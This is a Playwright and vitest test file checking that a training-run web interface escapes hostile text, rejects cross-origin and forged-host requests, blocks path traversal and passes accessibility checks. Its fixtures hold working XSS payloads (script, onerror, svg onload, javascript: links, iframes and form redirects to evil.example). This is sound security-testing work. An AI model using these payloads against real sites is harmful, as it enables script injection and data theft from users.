import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { request } from "node:http";
import { createRequire } from "node:module";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { type Browser, chromium, type Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { chromiumHere } from "../support/chromium.ts";
import { killIfRunning, type RunningCommand, start } from "../support/command.ts";
import { writeScriptedPipeline } from "../support/scripted-pipeline.ts";
import { temporaryFolder } from "../support/temporary-folder.ts";

const folder = temporaryFolder();
const runs = join(folder, "runs");
const executable = await chromiumHere();
const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");

/** What a task, a model, a person and a tool may say, each of which would do something if it were not text. */
const hostile = {
  task: `<script>window.pwned=1</script><img src=x onerror="window.pwned=2">`,
  action: "</pre></section><svg onload=window.pwned=3><style>main{display:none}</style>",
  answer: `"><a href="javascript:window.pwned=4">x</a><div hx-get="//evil.example/" hx-trigger=load>`,
  person: `<form action="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example">`,
  argument: "<iframe src=//evil.example></iframe>",
};
const call = `<tool_call>{"name":"calculator","arguments":{"expression":"1 + 1"}}</tool_call>`;

let run = "";
let url = "";
let work: RunningCommand;
let pages: RunningCommand;
let browser: Browser | undefined;
/** What pages asked of others, and what the browser refused or found wrong. */
const strange: string[] = [];

beforeAll(async () => {
  const task = {
    data_source: "scripted",
    prompt: [{ role: "user", content: hostile.task }],
    reward_model: { ground_truth: "2" },
  };
  const tasks = join(folder, "tasks.jsonl");
  writeFileSync(tasks, `${JSON.stringify(task)}\n`);
  const dataset = { plugin: "dataset-jsonl", config: { path: tasks } };
  const plugin = join(import.meta.dirname, "..", "plugins", "tool-counting");
  const pipeline = writeScriptedPipeline(folder, [[hostile.action + call, hostile.answer]], {
    dataset: { train: dataset, validation: dataset },
    tools: [{ plugin, config: { log: join(folder, "calls.log") }, approval: "required" }],
    rollout: { batchSize: 2, groupSize: 2, maxActionTokens: 200 },
  });
  work = start("run", pipeline, "--runs", runs, "--json");
  pages = start("ui", "--runs", runs, "--port", "0", "--no-token");
  url = await until(() => /http:\S+/.exec(pages.stdout())?.[0]);
  run = await until(() => readdirSync(runs)[0]);
  if (executable !== undefined) browser = await chromium.launch({ executablePath: executable, args });
});
afterAll(async () => {
  await browser?.close();
  for (const command of [work, pages]) killIfRunning(command);
});

const args = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"];

async function until<T>(ask: () => T | undefined | Promise<T | undefined>): Promise<T> {
  for (;;) {
    const answer = await Promise.resolve()
      .then(ask)
      .catch(() => undefined);
    if (answer !== undefined) return answer;
    await sleep(200);
  }
}

/** A page of this size; what it does that it should not is noted. */
async function opened(width = 1440, colorScheme: "light" | "dark" = "light"): Promise<Page> {
  if (browser === undefined) throw new Error("there is no browser");
  const context = await browser.newContext({ viewport: { width, height: 900 }, colorScheme });
  const page = await context.newPage();
  page.setDefaultTimeout(120_000);
  page.on("request", (asked) => {
    if (!asked.url().startsWith(url)) strange.push(`request of ${asked.url()}`);
  });
  page.on("dialog", (dialog) => strange.push(`dialog ${dialog.message()}`));
  page.on("pageerror", (error) => strange.push(`error ${error.message}`));
  page.on("console", (line) => {
    const isOfForm = line.text().startsWith("Failed to load resource"); // an answer with a status of its own
    if (["error", "warning"].includes(line.type()) && !isOfForm) strange.push(`console ${line.text()}`);
  });
  return page;
}

/** By the keyboard alone: to the next element that this selector names. */
async function tabTo(page: Page, selector: string): Promise<void> {
  for (let times = 0; times < 200; times++) {
    await page.keyboard.press("Tab");
    if (await page.evaluate(`document.activeElement?.matches(${JSON.stringify(selector)}) ?? false`)) return;
  }
  throw new Error(`the keyboard does not come to ${selector}`);
}

/** Presses Enter, which opens another page. */
async function enter(page: Page): Promise<void> {
  await Promise.all([page.waitForEvent("load"), page.keyboard.press("Enter")]);
}

const at = (...below: string[]) => `${url}/runs/${run}/${below.join("/")}`;
const first = () => at("trajectories", "evaluation-v0000", "task-00000", "0");

/** Sends a form as a page of `origin` would. */
function send(path: string, fields: Record<string, string>, origin = url) {
  const body = new URLSearchParams(fields);
  return fetch(path, { method: "POST", body, headers: { origin }, redirect: "manual" });
}

describe.skipIf(executable === undefined)("the pages", () => {
  test("a browser that opens the printed address keeps its token, and shows it no more", async () => {
    const command = start("ui", "--runs", runs, "--port", "0");
    try {
      const printed = await until(() => /http:\S+/.exec(command.stdout())?.[0]);
      const page = await (browser as Browser).newPage();
      await page.goto(printed);
      expect(page.url()).toBe(`${new URL(printed).origin}/`);
      await page.getByRole("link", { name: run }).first().click();
      await page.getByRole("heading", { name: run }).waitFor();
      await page.close();
    } finally {
      command.killGroup();
    }
  });

  test("by the keyboard alone: from the list of runs to a call that waits, and a word to it", async () => {
    await until(async () =>
      (await (await fetch(at("waiting"))).text()).includes("call 1/0") ? true : undefined,
    );
    const page = await opened();
    await page.goto(url);
    await expect.poll(() => page.locator(".state.live").innerText(), { timeout: 120_000 }).toBe("at work");
    await tabTo(page, `a[href="/runs/${run}"]`);
    await enter(page);
    await tabTo(page, `a[href="/runs/${run}/waiting"]`);
    await enter(page);
    await tabTo(page, `a[href*="/evaluation-v0000/"]`);
    await enter(page);
    await tabTo(page, 'input[name="text"]');
    await page.keyboard.type(hostile.person);
    await enter(page);
    await expect
      .poll(() => page.locator("main").innerText(), { timeout: 120_000 })
      .toContain(`not yet read, as user: ${hostile.person}`);
    await tabTo(page, 'input[name="arguments"]');
    await page.keyboard.type(JSON.stringify({ expression: hostile.argument }));
    await sleep(5000); // the page asks for what is new meanwhile; what is typed stays
    expect(await page.locator('input[name="arguments"]').inputValue()).toContain("iframe");
    await enter(page);
    await expect
      .poll(() => page.locator("main").innerText(), { timeout: 120_000 })
      .toContain("Fork or replay");
    const said = await page.locator("main").innerText();
    for (const text of Object.values(hostile)) expect(said).toContain(text);
    expect(said).toContain("edited by a person");
    expect(
      await page.evaluate(
        "[window.pwned, document.querySelectorAll('main script, main iframe, main svg:not(.span), main style').length]",
      ),
    ).toEqual([undefined, 0]);
    await page.context().close();
  });

  test("what is refused is told on the page, and changes nothing", async () => {
    const waiting = await until(async () => {
      const text = await (await fetch(at("waiting"))).text();
      return /href="(\/runs\/[^"]*\/step-0001\/[^"]*)"/.exec(text)?.[1];
    });
    const orders = `${url}${waiting}/orders`;
    const refused = async (fields: Record<string, string>) => {
      const answer = await send(orders, fields);
      return [answer.status, await answer.text()] as const;
    };
    const cases = [
      [{ order: "explode" }, "there is no such order"],
      [{ order: "approve", call: "9/9" }, "no call 9/9 waits"],
      [{ order: "approve", arguments: "[1]" }, "its arguments are not a JSON object"],
      [{ order: "approve", arguments: '{"expression": 3}' }, "calculator does not take these arguments"],
      [{ order: "resume" }, "it is not paused"],
    ] as const;
    for (const [fields, reason] of cases) {
      const [status, text] = await refused(fields);
      expect(status).toBe(409);
      expect(text).toContain(reason);
    }
    expect((await send(orders, { order: "approve" }, "http://evil.example")).status).toBe(403);
    expect((await send(orders, { order: "approve" }, "http://127.0.0.1:1")).status).toBe(403);
    const { hostname, port } = new URL(url);
    const other = await new Promise<number | undefined>((resolve) => {
      const headers = { host: "evil.example" };
      request({ hostname, port, path: "/", headers }, (answer) => resolve(answer.resume().statusCode)).end();
    });
    expect(other).toBe(403);
    for (const path of [
      "/runs/..%2F..",
      "/runs/none",
      at("steps/99").slice(url.length),
      "/nothing",
      at("trajectories/a/b/c").slice(url.length),
      at("bytes/0").slice(url.length),
      "/jobs/7",
    ])
      expect((await fetch(url + path)).status, path).toBe(404);
    expect((await send(orders, { order: "pause", reason: "look" })).status).toBe(303);
    expect((await send(orders, { order: "resume" })).status).toBe(303);
    while (work.child.exitCode === null) {
      const text = await (await fetch(at("waiting"))).text();
      for (const [, path] of text.matchAll(/action="([^"]*\/orders)"/g))
        await send(url + path, { order: "approve" });
      await sleep(200);
    }
    expect((await work.end()).code).toBe(0);
    expect((await send(orders, { order: "pause" })).status).toBe(409);
  });

  test("each page at both widths, light and dark: no finding of axe, nothing asked of others", async () => {
    const wrong = encodeURIComponent("<script>window.pwned=5</script>");
    const paths = {
      runs: url,
      run: at(),
      step: at("steps/1"),
      evaluations: at("evaluations"),
      waiting: at("waiting"),
      list: at("trajectories"),
      search: `${at("search")}?text=${encodeURIComponent("1 + 1")}`,
      log: at("log"),
      wrong: `${at("trajectories")}?where=${wrong}`,
      task: at("tasks/task-00000"),
      trajectory: first(),
      mask: `${first()}?tokens=mask`,
      likely: `${first()}?tokens=log-probability`,
      advantage: `${at("trajectories/step-0001/task-00000/0")}?tokens=advantage`,
      compare: `${url}/compare?first=${run}/evaluation-v0000&second=${run}`,
      runsCompared: `${url}/compare-runs?run=${run}&run=${run}&run=${run}`,
      problem: `${url}/runs/${wrong}`,
    };
    for (const [width, scheme] of [
      [1440, "light"],
      [390, "dark"],
    ] as const) {
      const page = await opened(width, scheme);
      for (const [name, path] of Object.entries(paths)) {
        await page.goto(path);
        const found = await page.evaluate<string[]>(
          `${axe};axe.run().then(({ violations }) => violations.map(({ id, nodes }) => id + " " + nodes[0].html))`,
        );
        expect(found, `${name} at ${width}`).toEqual([]);
        expect(
          await page.evaluate("document.documentElement.scrollWidth - innerWidth"),
          name,
        ).toBeLessThanOrEqual(0);
        expect(await page.evaluate("window.pwned")).toBe(undefined);
      }
      await page.context().close();
    }
    expect(strange).toEqual([]);
  });

  test("the table filters and sorts, by the address alone", async () => {
    const list = async (query: string) => {
      const text = await until(async () => {
        const read = await (await fetch(`${at("trajectories")}?${query}`)).text();
        return read.includes("Reading the run") ? undefined : read;
      });
      return [...text.matchAll(/<td><a href="[^"]*">([^<]*)<\/a><\/td>/g)].map(([, id]) => id);
    };
    const all = await list("");
    expect(all).toHaveLength(4);
    expect(await list("stage=step-0001&sort=trajectory+desc")).toEqual([
      "step-0001/task-00000/1",
      "step-0001/task-00000/0",
    ]);
    expect(await list("where=reward+%3E+5")).toEqual([]);
    expect(await list("tool=calculator&outcome=answered")).toEqual(all);
    const wrong = await (await fetch(`${at("trajectories")}?where=rewrd+%3C+0`)).text();
    expect(wrong).toMatch(/rewrd.*at line 1, column 1/s);
  });

  test("a replay from the page", async () => {
    const page = await opened();
    await page.goto(first());
    await page.getByRole("button", { name: "Replay" }).click();
    await expect
      .poll(() => page.locator("main").innerText(), { timeout: 120_000 })
      .toMatch(/done[\s\S]*deterministic/);
    await page.context().close();
  });
});

test("it ends with Ctrl-C, without a word", async () => {
  pages.child.kill("SIGINT");
  expect(await pages.end()).toMatchObject({ stderr: "" });
});
